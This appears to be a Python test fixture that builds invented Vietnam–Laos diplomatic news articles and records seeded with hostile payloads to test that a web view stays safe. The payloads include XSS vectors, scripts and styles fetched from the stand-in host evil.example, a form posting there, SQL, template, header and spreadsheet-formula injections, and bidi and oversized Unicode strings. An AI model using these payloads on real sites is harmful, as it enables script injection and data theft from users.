"""Hostile articles, plainly invented: markup, scripts, styles, directions of writing, giant words, in every place where a page shows words.

Each payload that is run would set ``window.hit`` or ask for something at a host of its own; none may.
"""

import random
from collections.abc import Iterator
from typing import Any

from tests.web.web_ledger import record

from banggiao.model import Article, Reading, Record

HOST = "evil.example"
PAYLOADS = (
    "<script>window.hit=1</script>",
    "</title></head><body onload=window.hit=1>",
    '"><script src=//evil.example/x.js></script>',
    "'><img src=x onerror=window.hit=1>",
    "<img src=//evil.example/p.png>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><style>@import '//evil.example/a.css'</style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1>#x'/></svg>",
    "<style>body{display:none;background:url(//evil.example/b)}</style>",
    "<link rel=stylesheet href=//evil.example/c.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=//evil.example/d></object><embed src=//evil.example/e>",
    "<form action=//evil.example/><input name=proof><button autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1><summary>x</summary></details>",
    "<a href=javascript:window.hit=1 autofocus onfocus=window.hit=1>bấm</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<textarea></textarea><xmp><plaintext>",
    "<!--><script>window.hit=1</script>-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "{{ 7 * 7 }}{% for x in () %}${7*7}#{7*7}<%= 7*7 %>",
    "'; DROP TABLE articles; --",
    '" autofocus onfocus=window.hit=1 x="',
    "' style='position:fixed;inset:0;z-index:9",
    '" style="background:url(//evil.example/f)',
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "//evil.example/\\evil.example",
    "\u202egnouhp oàv óc\u202c đảo chữ",
    "\u2066\u2067\u2068lồng hướng\u2069",
    "\u200f\u061cهلا\u200eشالوم",
    "\u200b\u200c\u200d\ufeff\u2060\u00ad" * 40,
    "a" + "\u0301\u0323\u0302" * 300,
    "w" * 3_000,
    "ﷺ" * 200,
    "🧑\u200d🚀" * 120,
    "Dài" * 700,
    "\x01\x02\x07\x08\x1b[31m\x7f\x85\x9f",
    "\r\n\r\nSet-Cookie: session=x\r\n",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\u2028\u2029\x0b\x0c",
    "=cmd|'/c calc'!A1",
    "</q></bdi></main></html><script>window.hit=1</script>",
)
_KINDS: tuple[tuple[str, dict[str, Any]], ...] = (
    ("event", {"type": "talks", "parties": ["LA", "VN"], "date": "2024-03-12", "status": "held", "people": [], "place": None}),
    ("event", {"type": "visit", "parties": ["LA", "VN"], "date": "2025-02-01", "status": "planned", "people": [], "place": None}),
    ("post", {"person": None, "post": "foreign_minister", "country": "LA", "organisation": None}),
    ("partnership", {"parties": ["LA", "VN"], "tier": "special", "name": None, "since": "2009", "status": "current"}),
    ("anniversary", {"parties": ["LA", "VN"], "of": "relations", "years": 60, "date": "2024-09-05", "since": None}),
    ("mechanism", {"name": None, "parties": ["LA", "VN"], "edition": 5, "date": "2024-03-12", "status": "held"}),
    ("agreement", {"name": None, "parties": ["LA", "VN"], "type": "agreement", "status": "signed", "date": "2024-03-12"}),
    ("commitment", {"act": "agree", "by": ["LA", "VN"], "to": None, "sectors": ["trade"], "due": "2025"}),
    ("target", {"parties": ["LA", "VN"], "measure": "trade", "value": 2_000_000_000, "unit": "USD", "by": "2025"}),
    ("statistic", {"parties": ["LA", "VN"], "measure": "trade", "value": 1_500_000_000, "unit": "USD", "period": "2023"}),
    ("stance", {"holder": "VN", "topic": None, "position": "support"}),
    ("role", {"country": "LA", "role": None, "organisation": "ASEAN", "period": "2024"}),
)
_WORDS = ("person", "place", "name", "topic", "role", "organisation", "of")


def articles(number: int, seed: int = 1) -> Iterator[tuple[Article, Reading]]:
    """So many articles with a payload in text, title, outlet, address and id, and a record of every kind with it in its values."""
    chosen = random.Random(seed)
    for at in range(number):
        payload, other = PAYLOADS[at % len(PAYLOADS)], chosen.choice(PAYLOADS)
        day = f"2024-{at % 9 + 1:02d}-{at % 27 + 1:02d}"
        text = (
            f"{other}\nViệt Nam và Lào hội đàm {at}\nNgày 12/3/2024, tại Hà Nội, Bộ trưởng Ngoại giao Lào {payload} hội đàm với {other}.\n"
            f"Hai bên nhất trí {payload} nâng kim ngạch lên 2 tỷ USD vào năm 2025. {payload}\n{payload * 2}\n"
        )
        key = f"{payload[:200]}#{at}"
        article = Article(
            id=key, text=text, source=key, raw=text.encode(), published=day, title=f"{payload} {other}"[:4_000],
            outlet=f"{other[:300]} {at % 7}", url=chosen.choice((f"javascript:window.hit={at}", f"https://example.org/{at}?{payload[:300]}", payload[:900])),
        )  # fmt: skip
        records = tuple(_records(text, payload, at))
        yield article, Reading(id=key, relevant=True, records=records, published=day, published_basis="given")


def _records(text: str, payload: str, at: int) -> Iterator[Record]:
    """A record of some kinds, each with the payload as every value that is words, and as its quote."""
    for turn in range(4):
        kind, values = _KINDS[(at + turn * 3) % len(_KINDS)]
        filled = {key: payload[:600] if key in _WORDS and value is None else value for key, value in values.items()}
        if kind == "event":
            filled["people"] = [payload[:300], f"Người thứ {at}"]
        yield record(text, kind, payload if turn % 2 else f"Bộ trưởng Ngoại giao Lào {payload} hội đàm", filled)
